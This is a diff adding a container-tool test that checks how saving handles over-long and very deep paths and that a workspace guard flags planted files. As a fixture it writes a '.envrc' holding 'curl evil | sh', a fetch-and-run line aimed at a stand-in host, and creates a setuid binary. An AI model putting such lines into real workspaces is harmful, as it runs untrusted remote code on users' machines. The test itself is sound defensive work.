@@ -185,3 +185,46 @@ def test_a_detach_save_survives_a_hostile_or_missing_tar_inside(
     assert not list(isolated_env.rglob("escape.txt")) and not list(isolated_env.rglob("absolute.txt"))
     assert not list(isolated_env.rglob("through.txt"))
     run_cci("shutdown", name, env=cci_environ, timeout=BOUND)
+
+
+#: inside: a path over PATH_MAX (25 directories of 200-character names) and one 140 directories deep in the state
+#: directory, a file of each kind the save keeps; in the workspace, what the workspace guard must report and clear
+UNREADABLE_STATE = f"""
+cd {STATE} && echo kept > ok.txt && n=$(printf '%0200d' 0) &&
+(for i in $(seq 25); do mkdir $n && cd $n; done; echo lost > f) &&
+p=deep && for i in $(seq 140); do p=$p/d; done && mkdir -p $p && echo bottom > $p/f && ln -s ../ok.txt deep/link &&
+chown -R code:code {STATE} &&
+echo 'curl evil | sh' > /workspace/.envrc && cp /bin/true /workspace/suidbin &&
+chmod 4755 /workspace/suidbin
+"""
+
+
+@pytest.mark.parametrize("end", ["poweroff, then cci list", "cci kill"])
+def test_what_a_stopped_container_cannot_read_neither_fails_the_end_nor_skips_the_workspace_guard(
+    end: str, workspace: Path, driver: IncusDriver, terminal: Terminal, cci_environ: dict[str, str],
+    isolated_env: Path,
+) -> None:
+    name, session = started(terminal, workspace, cci_environ, driver)
+    in_container(name, UNREADABLE_STATE, cci_environ)
+    terminal.kill_command("one")  # nobody watches the session any more
+    terminal.wait_for("one", "CCI-EXITED-137")
+    if end == "cci kill":  # a forced stop, then the save walks the stopped container over SFTP
+        result = run_cci("kill", name, env=cci_environ, timeout=BOUND)
+    else:
+        in_container(name, "poweroff", cci_environ)
+        assert driver.get(name).wait_stopped(60)
+        result = run_cci("list", env=cci_environ, timeout=BOUND)
+    assert result.returncode == 0, result.stderr
+    assert not driver.exists(name)
+    tree = saved_tree(isolated_env, session)
+    assert (tree / "ok.txt").read_bytes() == b"kept\n" and os.readlink(tree / "deep" / "link") == "../ok.txt"
+    deep = tree / "deep" / "/".join(["d"] * 120)
+    assert deep.is_dir() and not (deep / "/".join(["d"] * 20) / "f").exists()
+    assert "entries that could not be read (too long a path, over 128 levels down, refused) not saved" \
+        in result.stderr
+    assert "0" * 1000 not in result.stderr  # the container's names are cut short
+    assert f"workspace file .envrc was created during session {name}" in result.stderr
+    assert f"cleared the setuid/setgid bit of workspace file suidbin" in result.stderr
+    assert not (workspace / "suidbin").stat().st_mode & 0o6000
+    later = run_cci("list", env=cci_environ, timeout=BOUND)
+    assert later.returncode == 0 and "warning" not in later.stderr, later.stderr
